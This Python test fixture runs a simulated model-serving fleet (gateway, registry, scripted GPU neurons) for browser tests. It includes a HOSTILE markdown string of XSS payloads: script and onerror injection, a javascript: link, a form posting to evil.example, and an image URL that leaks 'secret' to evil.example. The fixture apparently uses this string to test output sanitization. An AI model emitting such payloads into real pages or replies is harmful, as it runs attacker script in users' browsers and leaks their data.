"""A fleet to look at: a real gateway and registry, and neurons that load and talk by script.

`python -m tests.browser.fleet` prints the gateway's address and serves until its standard input ends.
What stands on a line of its input is done: `lose attic`, `fail NAME MODEL`, `hold MODEL`, …
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import pathlib
import random
import sys
import tempfile
from collections.abc import AsyncIterator, Sequence
from typing import Any

import httpx
import structlog
from prometheus_client import CollectorRegistry

from cortex.v1 import model_pb2, neuron_service_pb2, registry_service_pb2
from services.backplane.logs import LogSettings
from services.backplane.process.lifecycle import Shutdown
from services.gateway.settings import ApiKey, AuthSettings, GatewaySettings
from services.gateway.wire import Gateway
from tests.doubles import registry_stand_ins
from tests.doubles.registry_stand_ins import document, eventually, running_fleet
from tests.doubles.scripted_neuron import Script, reasoning, text, tool_call
from tests.doubles.scripted_neuron import ScriptedNeuron as Talker

GIB = 1 << 30
MODELS = {
    "qwen3-14b": (9, 40_960, ["chat", "tools", "reasoning"], "Q4_K_M"),
    "llama-3.3-70b": (40, 131_072, ["chat", "tools"], "Q4_K_M"),
    "gemma-3-27b-it": (17, 131_072, ["chat", "vision"], "Q4_K_M"),
    "mistral-small-3.2": (14, 131_072, ["chat", "tools", "vision"], "Q4_K_M"),
    "gpt-oss-20b": (13, 131_072, ["chat", "tools", "reasoning"], "MXFP4"),
    "qwen3-embedding-4b": (5, 32_768, ["embedding"], "Q8_0"),
    "smollm2-135m": (1, 8_192, ["chat"], "Q8_0"),
}
ANSWER = """Here is **what a fleet is**, in short:

1. A *gateway* takes requests.
2. A *registry* decides where models go.
3. A *neuron* runs them.

```python
client = OpenAI(base_url="http://127.0.0.1:31313/v1", api_key="none")
```

| part | port |
|---|---|
| gateway | 31313 |
| registry | 31315 |
"""
HOSTILE = """# Hello <img src=x onerror="window.hacked=1"> <script>window.hacked=1</script>

<style>body{display:none}</style><form action="http://evil.example"><input name="a"><button>go</button></form>
<iframe src="http://evil.example"></iframe><a href="javascript:window.hacked=1">click</a>

![leak](http://evil.example/x.png?q=secret) <svg onload="window.hacked=1"></svg>
<div style="position:fixed;inset:0" onmouseover="window.hacked=1">cover</div>
"""


class Neuron(registry_stand_ins.ScriptedNeuron):
    """Loads as its books allow, and talks."""

    def __init__(self, name: str, devices: Sequence[tuple[str, int]], *, speed: float = 45) -> None:
        super().__init__(name, capacity=0, devices=len(devices))
        self.cards = list(devices)
        self.gap = 1 / speed
        self.heat = random.Random(name)
        self.quarantined = ""
        self.coming: dict[str, tuple[str, model_pb2.LoadProgress]] = {}
        self.talker = Talker(name)
        self.labels = {"zone": "cellar"}
        for model, (size, context, can, quantization) in MODELS.items():
            self.script(model).bytes = size * GIB
            self.script(model).progress = 40
            self.stored.append(
                model_pb2.StoredModel(
                    model=model,
                    bytes=int(size * 0.85 * GIB),
                    max_context_tokens=context,
                    capabilities=[
                        model_pb2.Capability.Value(f"CAPABILITY_{one.upper()}") for one in can
                    ],
                    quantization=quantization,
                )
            )

    def report(self) -> neuron_service_pb2.NeuronReport:
        self.capacity = 1000 * GIB
        told = super().report()
        for device, (name, total) in zip(told.devices, self.cards, strict=True):
            used = self.capacity - device.memory_free_bytes + GIB // 3
            device.name = name
            device.kind = model_pb2.DEVICE_KIND_CUDA if "CPU" not in name else device.kind
            device.memory_total_bytes = total * GIB
            device.memory_free_bytes = max(0, total * GIB - used)
            device.memory_reserved_bytes = GIB
            busy = min(1.0, self.talker.active / 6)
            device.utilization_ratio = busy * 0.97
            device.temperature_celsius = 41 + 24 * busy + self.heat.random() * 2
            device.power_watts = 62 + 300 * busy
        for model, (device, progress) in self.coming.items():
            one = told.instances.add(instance_id=f"{self.name}/{model}")
            one.spec.model, one.state = model, model_pb2.INSTANCE_STATE_LOADING
            one.load_progress.CopyFrom(progress)
            one.memory.add(device_id=device, bytes=progress.bytes_done)
            for card in told.devices:
                if card.device_id == device:
                    card.memory_free_bytes -= min(card.memory_free_bytes, progress.bytes_done)
        if self.quarantined:
            told.devices[0].quarantine_reason = self.quarantined
            told.workers[0].last_words = "CUDA error: an illegal memory access was encountered"
            told.workers[0].restarts = 5
        active: dict[str, int] = {}
        for request in self.talker.running:
            active[request] = active.get(request, 0) + 1
        for instance in told.instances:
            count = active.get(instance.instance_id, 0)
            instance.active_requests = min(8, count)
            instance.queued_requests = max(0, count - 8)
        return told

    def _loaded(self, spec: Any, script: Any, devices: list[str]) -> model_pb2.Instance:
        self.coming.pop(spec.model, None)
        made = super()._loaded(spec, script, devices)
        _, context, can, quantization = MODELS[spec.model]
        del made.capabilities[:]
        made.capabilities.extend(model_pb2.Capability.Value(f"CAPABILITY_{c.upper()}") for c in can)
        made.max_context_tokens = context
        made.max_active_requests, made.max_queued_requests = 8, 64
        made.engine = "llamacpp"
        made.weights.quantization = quantization
        made.cache_tokens_total, made.cache_tokens_used = 65_536, 21_504
        made.load_duration.FromSeconds(14)
        made.engine_facts.update({"attention": "flash", "threads": "8"})
        return made

    async def Load(self, request: Any, context: Any) -> AsyncIterator[Any]:
        model = request.spec.model
        total = self.script(model).bytes
        device = next(iter(request.spec.device_ids), self.device_ids[0])
        try:
            async for step in super().Load(request, context):
                if step.HasField("progress"):
                    step.progress.bytes_done = int(step.progress.bytes_done / 40 * total)
                    step.progress.bytes_total = total
                    self.coming[model] = (device, step.progress)
                    self.changed()
                    await asyncio.sleep(0.12)
                yield step
        finally:
            self.coming.pop(model, None)

    async def _words(self, admitted: asyncio.Event) -> AsyncIterator[Any]:
        """Reports as seldom as a daemon does, for many of them run in one process."""
        yield registry_service_pb2.AttachRequest(hello=self.identity())
        await admitted.wait()
        while True:
            changed = self._changed
            yield registry_service_pb2.AttachRequest(report=self.report())
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(1.0):
                    await changed.wait()

    async def Session(self, request_iterator: Any, context: Any) -> None:
        await self.talker.Session(request_iterator, context)


class Talking(Talker):
    """Answers by what is asked."""

    def __init__(self, name: str, gap: float) -> None:
        super().__init__(name)
        self.gap = gap
        self.running: list[str] = []
        self.random = random.Random(name)

    async def _follow(self, script: Any, request: Any) -> AsyncIterator[Any]:
        self.running.append(request.instance_id)
        try:
            async for event in super()._follow(self._script(request), request):
                if event.HasField("started"):
                    event.started.prompt_tokens = self.random.randint(800, 4000)
                    share = self.random.choice([0.0, 0.7, 0.9, 0.95])
                    event.started.cached_prompt_tokens = int(event.started.prompt_tokens * share)
                    self._started = event.started
                if event.HasField("finished"):
                    event.finished.usage.prompt_tokens = self._started.prompt_tokens
                    event.finished.usage.cached_prompt_tokens = self._started.cached_prompt_tokens
                yield event
        finally:
            self.running.remove(request.instance_id)

    def _script(self, request: Any) -> Script:
        last = request.chat.messages[-1] if request.chat.messages else None
        said = "".join(part.text for part in last.parts) if last else ""
        if "hostile" in said:
            return Script(events=words(HOSTILE), gap=self.gap)
        if "weather" in said and request.chat.tools and "sunny" not in said:
            arguments = tool_call(0, '{"city": "Prague"}', call_id="call_1", name="weather")
            return Script(events=[arguments], gap=self.gap)
        if "json" in said.lower():
            return Script(events=words('{"city": "Prague", "people": 1384732}'), gap=self.gap)
        if "think" in said:
            thoughts = [reasoning(one) for one in ("The user ", "wants ", "to know ", "it. ") * 6]
            return Script(events=[*thoughts, *words(ANSWER)], gap=self.gap)
        return Script(events=words(ANSWER * (3 if "long" in said else 1)), gap=self.gap)


def words(said: str) -> list[Any]:
    pieces = said.split(" ")
    return [text(f"{piece} ") for piece in pieces[:-1]] + [text(pieces[-1])]


CATALOGUE = "".join(
    f'[[models]]\nid = "{name}"\nmemory = "{size}GiB"\n'
    + ('aliases = ["default"]\npin = true\n' if name == "qwen3-14b" else "")
    + ('neurons = ["attic"]\n' if name == "gpt-oss-20b" else "")
    for name, (size, *_) in MODELS.items()
)
KEYS = AuthSettings(
    keys=(
        ApiKey(name="ops", key="ops-key", console="operate"),
        ApiKey(name="viewer", key="view-key", console="view"),
        ApiKey(name="editor", key="editor-key"),
        ApiKey(name="nightly", key="nightly-key", usual_class="batch"),
    )
)


def hosts(many: int) -> list[Neuron]:
    if many:
        return [Neuron(f"host-{number:03}", [("NVIDIA L4", 24)]) for number in range(many)]
    return [
        Neuron("cellar", [("NVIDIA RTX 4090", 24), ("NVIDIA RTX 3090", 24)], speed=70),
        Neuron("rack-1", [("NVIDIA H100 80GB", 80)], speed=110),
        Neuron("attic", [("NVIDIA RTX 3060", 12)], speed=30),
        Neuron("nas", [("CPU, 16 cores", 32)], speed=12),
    ]


class Shown:
    """The running fleet, moved by lines."""

    def __init__(self, gateway: Gateway, registry: Any, neurons: list[Neuron]) -> None:
        self.gateway = gateway
        self.registry = registry
        self.neurons = {one.name: one for one in neurons}
        self.attached: dict[str, asyncio.Task[None]] = {}
        self.load: asyncio.Task[None] | None = None

    async def do(self, line: str) -> None:
        order, *names = line.split()
        if order == "lose":
            self.attached[names[0]].cancel()
        elif order == "return":
            one = self.neurons[names[0]]
            self.attached[names[0]] = asyncio.create_task(one.attach(self.registry.address))
        elif order == "hold":
            for one in self.neurons.values():
                one.script(names[0]).gate.clear()
        elif order == "release":
            for one in self.neurons.values():
                one.script(names[0]).gate.set()
        elif order == "fail":
            self.neurons[names[0]].state(names[1], model_pb2.INSTANCE_STATE_FAILED)
        elif order == "quarantine":
            self.neurons[names[0]].quarantined = "Its worker died five times within ten minutes."
            self.neurons[names[0]].changed()
        elif order == "traffic":
            self.load = asyncio.create_task(traffic(self.gateway.address, int(names[0])))


async def traffic(address: str, streams: int) -> None:
    """Requests of several keys and models, for as long as it runs."""
    pick = random.Random(7)

    async def one(client: httpx.AsyncClient, number: int) -> None:
        key = ("editor-key", "editor-key", "nightly-key", "ops-key")[number % 4]
        while True:
            model = pick.choice(["qwen3-14b"] * 3 + ["default", "llama-3.3-70b", "smollm2-135m"])
            body = {
                "model": model,
                "stream": True,
                "messages": [{"role": "user", "content": pick.choice(["go", "a long one"])}],
            }
            headers = {"authorization": f"Bearer {key}"}
            with contextlib.suppress(httpx.HTTPError, TimeoutError):
                async with asyncio.timeout(pick.choice([2.0, 60.0, 60.0, 60.0, 60.0])):
                    url = "/v1/chat/completions"
                    async with client.stream("POST", url, json=body, headers=headers) as answer:
                        await answer.aread()
            await asyncio.sleep(pick.random() * 0.4)

    limits = httpx.Limits(max_connections=None)
    async with (
        httpx.AsyncClient(base_url=f"http://{address}", limits=limits, timeout=90) as client,
        asyncio.TaskGroup() as group,
    ):
        for number in range(streams):
            group.create_task(one(client, number))


async def serve(*, keys: bool, many: int, port: int) -> None:
    async with contextlib.AsyncExitStack() as stack:
        folder = pathlib.Path(stack.enter_context(tempfile.TemporaryDirectory()))
        settings = document(
            folder, CATALOGUE, lease_seconds=5.0, eviction={"patience_seconds": 3600.0}
        )
        registry = await stack.enter_async_context(running_fleet(settings))
        neurons = hosts(many)
        for one in neurons:
            one.talker = Talking(one.name, one.gap)
        made = GatewaySettings(
            listen=f"127.0.0.1:{port}",
            metrics_listen="",
            registry=(registry.address,),
            placement_seconds=3600,
        )
        auth = KEYS if keys else AuthSettings()
        quiet = LogSettings(level="error", format="json")
        gateway = Gateway(made, auth, registry=CollectorRegistry(), log_settings=quiet)
        shown = Shown(gateway, registry, neurons)
        for one in neurons:
            shown.attached[one.name] = await registry.add_unseen(one)
        names = {one.name for one in neurons}
        await registry.until(lambda seen: names <= seen, 60)
        shutdown = Shutdown()
        serving = asyncio.create_task(gateway.serve(shutdown))
        if not many:
            for model, place in (
                ("qwen3-14b", "cellar"),
                ("smollm2-135m", "nas"),
                ("llama-3.3-70b", "rack-1"),
                ("gemma-3-27b-it", "cellar"),
            ):
                await loaded(registry, model, place)
        await eventually(lambda: gateway.services.view.is_complete)
        tell(f"http://{gateway.address}")
        reader = asyncio.StreamReader()
        loop = asyncio.get_running_loop()
        await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
        while line := (await reader.readline()).decode().strip():
            await shown.do(line)
            tell(f"done: {line}")
        if shown.load is not None:
            shown.load.cancel()
        shutdown.request()
        await serving


async def loaded(registry: Any, model: str, place: str) -> None:
    from cortex.v1 import operator_service_pb2 as op

    async for _ in registry.operator.LoadModel(op.LoadModelRequest(model=model, neuron=place)):
        pass


def tell(line: str) -> None:
    sys.stdout.write(f"{line}\n")
    sys.stdout.flush()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--keys", action="store_true")
    parser.add_argument("--many", type=int, default=0)
    parser.add_argument("--port", type=int, default=0)
    given = parser.parse_args()
    structlog.configure(
        wrapper_class=structlog.make_filtering_bound_logger(30),
        logger_factory=structlog.PrintLoggerFactory(sys.stderr),
    )
    asyncio.run(serve(keys=given.keys, many=given.many, port=given.port))


if __name__ == "__main__":
    main()
